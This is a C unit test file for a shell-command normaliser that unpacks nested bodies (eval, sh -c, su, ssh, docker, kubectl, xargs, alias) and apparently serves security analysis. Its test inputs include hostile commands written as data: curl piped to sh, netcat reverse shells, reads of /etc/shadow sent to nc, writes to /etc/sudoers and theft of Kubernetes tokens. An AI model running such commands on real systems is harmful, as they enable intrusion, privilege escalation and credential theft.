/* Nested bodies: eval, sh -c, su -c, xargs, find -exec, ssh, docker, ... */
#include "norm_test.h"

/* The nested command prog exists below the outer command outer. */
static const px_cmd *nested_under(const px_actions *a, const char *outer, const char *prog)
{
    const px_cmd *o = need_prog(a, outer);
    const px_cmd *c = need_prog(a, prog);
    cr_assert(c->flags & PX_CMD_NESTED, "%s not NESTED:\n%s", prog, dump(a));
    cr_assert_eq(c->parent, cmd_index(a, o), "%s parent:\n%s", prog, dump(a));
    cr_assert_eq(c->depth, o->depth + 1, "%s depth:\n%s", prog, dump(a));
    return c;
}

Test(norm_nested, eval_joins_arguments)
{
    const px_actions *a = norm("eval 'cu''rl' -s \"http://x\" '|' sh");
    nested_under(a, "eval", "curl");
    nested_under(a, "eval", "sh");
    cr_assert(a->flags & PX_ACT_EVAL);
    cr_assert_str_eq(find_prog(a, "curl")->line, "curl -s http://x");
}

Test(norm_nested, eval_assignments_persist)
{
    const px_actions *a = norm("eval 'p=nm'; ${p}ap x");
    need_prog(a, "nmap");
}

Test(norm_nested, shells_with_c)
{
    static const char *const shells[] = {"sh", "bash", "dash", "zsh", "ksh", "ash", "/bin/bash"};
    for (size_t i = 0; i < sizeof(shells) / sizeof(shells[0]); i++) {
        char buf[128];
        snprintf(buf, sizeof(buf), "%s -c 'id; nmap -sV x'", shells[i]);
        const px_actions *a = norm(buf);
        cr_assert_eq(a->ncmds, 3, "%s", dump(a));
        cr_assert(a->cmds[2].flags & PX_CMD_NESTED);
        cr_assert_str_eq(a->cmds[2].prog, "nmap");
        cr_assert_eq(a->cmds[2].parent, 0);
    }
}

Test(norm_nested, shell_option_bundles)
{
    const px_actions *a = norm("bash -lc 'whoami'; bash -x -o pipefail -c 'id'; sh -e script.sh");
    need_prog(a, "whoami");
    need_prog(a, "id");
    assert_no_prog(a, "script.sh");
}

Test(norm_nested, shell_without_c_reads_no_body)
{
    const px_actions *a = norm("bash -i");
    cr_assert_eq(a->ncmds, 1);
    cr_assert(!(a->flags & PX_ACT_EVAL));
}

Test(norm_nested, busybox_sh)
{
    const px_actions *a = norm("busybox sh -c 'nc -e /bin/sh x 1'");
    const px_cmd *s = need_prog(a, "sh");
    cr_assert_str_eq(s->wrappers, "busybox");
    nested_under(a, "sh", "nc");
}

Test(norm_nested, su_and_runuser)
{
    const px_actions *a = norm("su root -c 'cat /etc/shadow'");
    const px_cmd *c = nested_under(a, "su", "cat");
    cr_assert(c->flags & PX_CMD_SUDO, "%s", dump(a));
    a = norm("su -l -c 'id' bob; runuser -u www -- whoami; runuser -l bob -c 'uname -a'");
    nested_under(a, "su", "id");
    nested_under(a, "runuser", "whoami");
    need_prog(a, "uname");
    a = norm("su --command='id' root");
    nested_under(a, "su", "id");
}

Test(norm_nested, sudo_sh_c)
{
    const px_actions *a = norm("sudo sh -c 'echo x >> /etc/sudoers'");
    const px_cmd *s = need_prog(a, "sh");
    cr_assert(s->flags & PX_CMD_SUDO);
    const px_cmd *e = nested_under(a, "sh", "echo");
    cr_assert(e->flags & PX_CMD_SUDO, "privilege carries into the body: %s", dump(a));
    cr_assert_str_eq(e->line, "echo x >>/etc/sudoers");
}

Test(norm_nested, script_c)
{
    const px_actions *a = norm("script -q -c 'bash -i' /dev/null; script -qc id /dev/null");
    need_prog(a, "bash");
    need_prog(a, "id");
}

Test(norm_nested, xargs_command)
{
    const px_actions *a = norm("find . -name '*.log' | xargs -0 -I{} -P 4 rm -f {}");
    const px_cmd *r = nested_under(a, "xargs", "rm");
    cr_assert(r->flags & PX_CMD_PIPE_IN);
    cr_assert_str_eq(r->line, "rm -f {}");
    a = norm("xargs -n1 sh -c 'id'");
    nested_under(a, "xargs", "sh");
    nested_under(a, "sh", "id");
}

Test(norm_nested, find_exec_forms)
{
    const px_actions *a = norm("find / -perm -4000 -exec ls -l {} \\; -execdir chmod u+s {} + -ok rm {} ';'");
    nested_under(a, "find", "ls");
    nested_under(a, "find", "chmod");
    nested_under(a, "find", "rm");
    cr_assert_str_eq(find_prog(a, "ls")->line, "ls -l {}");
    cr_assert_str_eq(find_prog(a, "chmod")->line, "chmod u+s {}");
}

Test(norm_nested, find_exec_shell)
{
    const px_actions *a = norm("find . -exec /bin/sh -p \\; -quit");
    nested_under(a, "find", "sh");
}

Test(norm_nested, ssh_remote_command)
{
    const px_actions *a = norm("ssh -i ~/.ssh/k -p 2222 -o StrictHostKeyChecking=no user@host 'cat /etc/shadow' '|' nc x 1");
    const px_cmd *c = nested_under(a, "ssh", "cat");
    cr_assert(c->flags & PX_CMD_REMOTE);
    need_prog(a, "nc");
    a = norm("ssh host");
    cr_assert_eq(a->ncmds, 1);
    a = norm("ssh root@10.0.0.5 -t -p 2222 'bash -i'");
    cr_assert(need_prog(a, "bash")->flags & PX_CMD_REMOTE, "%s", dump(a));
}

Test(norm_nested, docker_exec_and_run)
{
    const px_actions *a = norm("docker exec -it -u root -e A=1 web sh -c 'cat /etc/shadow'");
    const px_cmd *s = nested_under(a, "docker", "sh");
    cr_assert(s->flags & PX_CMD_REMOTE);
    nested_under(a, "sh", "cat");
    a = norm("docker run --rm -v /:/host --name x alpine chroot /host sh");
    nested_under(a, "docker", "chroot");
    nested_under(a, "chroot", "sh");
    a = norm("docker ps -a");
    cr_assert_eq(a->ncmds, 1);
}

Test(norm_nested, kubectl_exec)
{
    const px_actions *a = norm("kubectl exec -n prod -it pod-1 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token");
    const px_cmd *c = nested_under(a, "kubectl", "cat");
    cr_assert(c->flags & PX_CMD_REMOTE);
    a = norm("kubectl get pods -- x");
    cr_assert_eq(a->ncmds, 1);
}

Test(norm_nested, watch_parallel_flock)
{
    const px_actions *a = norm("watch -n 5 'curl -s http://x | sh'");
    nested_under(a, "watch", "curl");
    nested_under(a, "watch", "sh");
    a = norm("parallel -j 4 'wget {}' ::: a b");
    nested_under(a, "parallel", "wget");
    a = norm("flock -w 5 /tmp/l id; flock /tmp/l -c 'whoami'");
    nested_under(a, "flock", "id");
    need_prog(a, "whoami");
}

Test(norm_nested, env_split_string)
{
    const px_actions *a = norm("env -S 'bash -c whoami'");
    nested_under(a, "env", "bash");
    nested_under(a, "bash", "whoami");
}

Test(norm_nested, namespace_tools)
{
    const px_actions *a = norm("nsenter -t 1 -m -u -i -n -p bash; chroot /mnt /bin/sh -i; unshare -r -m --fork id");
    nested_under(a, "nsenter", "bash");
    nested_under(a, "chroot", "sh");
    nested_under(a, "unshare", "id");
}

Test(norm_nested, nested_depth_chain)
{
    const px_actions *a = norm("sudo bash -c \"su -c 'eval id' root\"");
    const px_cmd *id = need_prog(a, "id");
    cr_assert_eq(id->depth, 3, "%s", dump(a));
    cr_assert(id->flags & PX_CMD_SUDO);
}

Test(norm_nested, depth_limit_truncates)
{
    px_norm_limits lim;
    px_norm_limits_default(&lim);
    lim.max_depth = 2;
    const char *s = "sh -c \"sh -c 'sh -c id'\"";
    const px_actions *a = norm_lim(s, strlen(s), &lim);
    cr_assert(a->flags & PX_ACT_TRUNCATED, "%s", dump(a));
    assert_no_prog(a, "id");
    for (int i = 0; i < a->ncmds; i++)
        cr_assert(a->cmds[i].depth <= 2);
}

Test(norm_nested, screen_and_tmux)
{
    const px_actions *a = norm("screen -dmS job bash -c 'nc -e /bin/sh h 1'");
    const px_cmd *b = nested_under(a, "screen", "bash");
    nested_under(a, "bash", "nc");
    cr_assert_eq(b->depth, 1);
    a = norm("tmux new-session -d -s x 'curl -s http://x | sh'");
    nested_under(a, "tmux", "curl");
    nested_under(a, "tmux", "sh");
    a = norm("tmux ls");
    cr_assert_eq(a->ncmds, 1);
}

Test(norm_nested, env_split_string_spellings)
{
    const px_actions *a = norm("env --split-string='sh -c id'; env -S'uname -a' extra");
    nested_under(a, "env", "sh");
    need_prog(a, "id");
    cr_assert_str_eq(need_prog(a, "uname")->line, "uname -a extra", "%s", dump(a));
}

/* alias NAME=BODY: the body is read as code, and a later NAME runs it with
 * its arguments. */
Test(norm_nested, alias_body_and_later_use)
{
    const px_actions *a = norm("alias scan=nmap; scan -sV target.example");
    nested_under(a, "alias", "nmap");
    const px_cmd *scan = need_prog(a, "scan");
    int found = 0;
    for (int i = 0; i < a->ncmds; i++)
        if (strcmp(a->cmds[i].prog, "nmap") == 0 && a->cmds[i].parent == cmd_index(a, scan))
            found = strcmp(a->cmds[i].line, "nmap -sV target.example") == 0;
    cr_assert(found, "scan not expanded:\n%s", dump(a));
}

Test(norm_nested, alias_does_not_expand_quoted_self_or_undefined_names)
{
    /* a self-referencing alias expands once, as in bash */
    const px_actions *a = norm("alias ls='ls -la'; ls /tmp");
    cr_assert_eq(count_prog(a, "ls"), 3, "%s", dump(a));
    /* a quoted command word is never an alias */
    a = norm("alias x=whoami; 'x' y");
    cr_assert_eq(count_prog(a, "whoami"), 1, "%s", dump(a));
    /* no definition, no expansion */
    a = norm("scan -sV target.example");
    assert_no_prog(a, "nmap");
}
